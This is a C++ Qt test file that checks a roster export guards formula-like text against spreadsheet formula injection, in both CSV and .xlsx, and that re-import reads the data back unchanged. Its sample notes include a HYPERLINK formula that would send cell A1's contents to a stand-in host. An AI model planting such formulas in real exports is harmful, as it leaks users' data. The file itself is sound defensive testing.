// Text that a spreadsheet program would run as a formula (issue 12, point 4): the CSV export puts a leading
// apostrophe before it, the .xlsx writes it as a text cell with the Text number format, a plain number stays a
// number, and the program's own import reads both back as they were. The CSV is read back by Python's csv module
// and the .xlsx by openpyxl, independently of the program's readers.
#include "core/common/Csv.h"
#include "core/db/Database.h"
#include "core/people/PersonRepository.h"
#include "core/people/RosterColumns.h"
#include "core/people/RosterExport.h"
#include "core/people/RosterImport.h"
#include "core/spreadsheet/WorkbookReader.h"
#include "tests/support/RequiredTool.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace thidua;
using namespace Qt::StringLiterals;

namespace {

// Notes as a hostile or careless list would carry them: what the cell must show, and whether it is guarded.
struct Sample
{
    QString note;
    bool guarded;
};

const QList<Sample>& samples()
{
    static const QList<Sample> list {
        { u"=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào đây\")"_s, true },
        { u"=1+2"_s, true },
        { u"+84 912 345 678"_s, true },
        { u"-2+3"_s, true },
        { u"@SUM(A1:A9)"_s, true },
        { u"-5"_s, false },
        { u"+84912345678"_s, false },
        { u"-"_s, false },
        { u"Con thương binh"_s, false },
    };
    return list;
}

} // namespace

class TestCsvInjection : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();
    void looksLikeFormula_data();
    void looksLikeFormula();
    void csvAsPythonReadsIt();
    void xlsxAsOpenpyxlReadsIt();
    void importReadsBackWhatWasExported_data();
    void importReadsBackWhatWasExported();

private:
    QString python(const QString& script, const QString& path) const;
    void addSamples();

    QString m_python;
    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<Database> m_db;
};

void TestCsvInjection::initTestCase()
{
    // Debian's python3 (python3-openpyxl) may not be the first on the PATH (pyenv): take the first with openpyxl.
    for (const QString& candidate : { u"/usr/bin/python3"_s, QStandardPaths::findExecutable(u"python3"_s) }) {
        if (!candidate.isEmpty() && QFile::exists(candidate)
            && QProcess::execute(candidate, { u"-c"_s, u"import openpyxl"_s }) == 0) {
            m_python = candidate;
            break;
        }
    }
}

void TestCsvInjection::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    auto db = Database::open(m_dir->filePath(u"t.sqlite"_s));
    QVERIFY(db.ok());
    m_db = std::move(db).value();
}

void TestCsvInjection::cleanup()
{
    m_db.reset();
    m_dir.reset();
}

void TestCsvInjection::looksLikeFormula_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("formula");
    QTest::newRow("equals") << u"=HYPERLINK(\"http://x\")"_s << true;
    QTest::newRow("plus") << u"+A1"_s << true;
    QTest::newRow("minus") << u"-A1+1"_s << true;
    QTest::newRow("at") << u"@SUM(1)"_s << true;
    QTest::newRow("tab") << u"\t=1"_s << true;
    QTest::newRow("carriage return") << u"\r=1"_s << true;
    QTest::newRow("phone with spaces") << u"+84 912 345 678"_s << true;
    QTest::newRow("negative number") << u"-5"_s << false;
    QTest::newRow("negative decimal") << u"-2.5"_s << false;
    QTest::newRow("decimal comma") << u"-2,5"_s << false;
    QTest::newRow("exponent") << u"+1e3"_s << false;
    QTest::newRow("phone as a number") << u"+84912345678"_s << false;
    QTest::newRow("dash for none") << u"-"_s << false;
    QTest::newRow("dashes") << u"---"_s << false;
    QTest::newRow("plus alone") << u"+"_s << true;
    QTest::newRow("text") << u"Tổ Toán"_s << false;
    QTest::newRow("equals inside") << u"a=b"_s << false;
    QTest::newRow("empty") << QString() << false;
}

void TestCsvInjection::looksLikeFormula()
{
    QFETCH(QString, text);
    QFETCH(bool, formula);
    QCOMPARE(Csv::looksLikeFormula(text), formula);
    QCOMPARE(Csv::guarded(text), formula ? u"'"_s + text : text);
    QCOMPARE(Csv::unguarded(Csv::guarded(text)), text);
    QCOMPARE(Csv::field(text).startsWith(u"'"_s) || Csv::field(text).startsWith(u"\"'"_s), formula);
}

QString TestCsvInjection::python(const QString& script, const QString& path) const
{
    QProcess process;
    process.start(m_python, { u"-c"_s, script, path });
    if (!process.waitForFinished(60000) || process.exitCode() != 0)
        return u"python failed: "_s + QString::fromUtf8(process.readAllStandardError());
    return QString::fromUtf8(process.readAllStandardOutput());
}

void TestCsvInjection::addSamples()
{
    PersonRepository people(m_db->connection());
    int n = 0;
    for (const Sample& s : samples()) {
        Person p;
        p.kind = PersonKind::Staff;
        p.setFullName(u"Nguyễn Văn "_s + QChar(u'A' + n));
        p.code = QStringLiteral("GV%1").arg(++n);
        p.note = s.note;
        QVERIFY(people.insert(p).ok());
    }
}

void TestCsvInjection::csvAsPythonReadsIt()
{
    THIDUA_REQUIRE_TOOL(
        !m_python.isEmpty(), "python3 with openpyxl is not installed (apt-get install python3-openpyxl)");
    addSamples();
    const QString path = m_dir->filePath(u"people.csv"_s);
    QVERIFY(RosterExport(m_db->connection()).write(path, {}).ok());
    // Code → note, as a spreadsheet program reading the CSV gets the cells.
    const QString out = python(u"import csv, json, sys\n"
                               "rows = list(csv.DictReader(open(sys.argv[1], encoding='utf-8-sig', newline='')))\n"
                               "print(json.dumps({r['Mã']: r['Ghi chú'] for r in rows}))"_s,
        path);
    const QJsonObject notes = QJsonDocument::fromJson(out.toUtf8()).object();
    QVERIFY2(!notes.isEmpty(), qPrintable(out));
    int n = 0;
    for (const Sample& s : samples()) {
        const QString code = QStringLiteral("GV%1").arg(++n);
        QCOMPARE(notes.value(code).toString(), s.guarded ? u"'"_s + s.note : s.note);
    }
}

void TestCsvInjection::xlsxAsOpenpyxlReadsIt()
{
    THIDUA_REQUIRE_TOOL(
        !m_python.isEmpty(), "python3 with openpyxl is not installed (apt-get install python3-openpyxl)");
    addSamples();
    const QString path = m_dir->filePath(u"people.xlsx"_s);
    QVERIFY(RosterExport(m_db->connection()).write(path, {}).ok());
    // Every note cell: its type ('s' text, 'f' formula, 'n' number), value and number format.
    const QString out = python(u"import json, sys, openpyxl\n"
                               "sheet = openpyxl.load_workbook(sys.argv[1]).active\n"
                               "rows = list(sheet.iter_rows())\n"
                               "head = next(i for i, r in enumerate(rows) if r[0].value == 'STT')\n"
                               "col = [c.value for c in rows[head]].index('Ghi chú')\n"
                               "code = [c.value for c in rows[head]].index('Mã')\n"
                               "print(json.dumps({r[code].value: [r[col].data_type, r[col].value, "
                               "r[col].number_format] for r in rows[head + 1:]}))"_s,
        path);
    const QJsonObject cells = QJsonDocument::fromJson(out.toUtf8()).object();
    QVERIFY2(!cells.isEmpty(), qPrintable(out));
    int n = 0;
    for (const Sample& s : samples()) {
        const QJsonArray cell = cells.value(QStringLiteral("GV%1").arg(++n)).toArray();
        QCOMPARE(cell.at(0).toString(), u"s"_s); // text, never a formula; the value without an apostrophe
        QCOMPARE(cell.at(1).toString(), s.note);
        // Formula-like text keeps the Text format, so that editing the cell does not run it.
        QCOMPARE(cell.at(2).toString(), s.guarded ? u"@"_s : u"General"_s);
    }
}

void TestCsvInjection::importReadsBackWhatWasExported_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::newRow("csv") << u"csv"_s;
    QTest::newRow("xlsx") << u"xlsx"_s;
}

void TestCsvInjection::importReadsBackWhatWasExported()
{
    QFETCH(QString, suffix);
    addSamples();
    const QString path = m_dir->filePath(u"people."_s + suffix);
    QVERIFY(RosterExport(m_db->connection()).write(path, {}).ok());
    auto book = WorkbookReader::read(path);
    QVERIFY(book.ok());
    const Sheet& sheet = book->sheets.constFirst();
    RosterImport::Options options;
    options.kind = PersonKind::Staff;
    auto plan = RosterImport(m_db->connection()).plan(sheet, RosterColumns::detect(sheet), options);
    QVERIFY(plan.ok());
    for (const RosterImport::Row& row : plan->rows)
        QVERIFY2(row.action == RosterImport::Row::Action::Unchanged,
            qPrintable(row.person.code + u": "_s + row.person.note));
    // Everybody matched by code, nothing to change: the notes read back exactly as stored.
    QCOMPARE(plan->unchanged, int(samples().size()));
    QCOMPARE(plan->errors, 0);
}

QTEST_GUILESS_MAIN(TestCsvInjection)
#include "TestCsvInjection.moc"
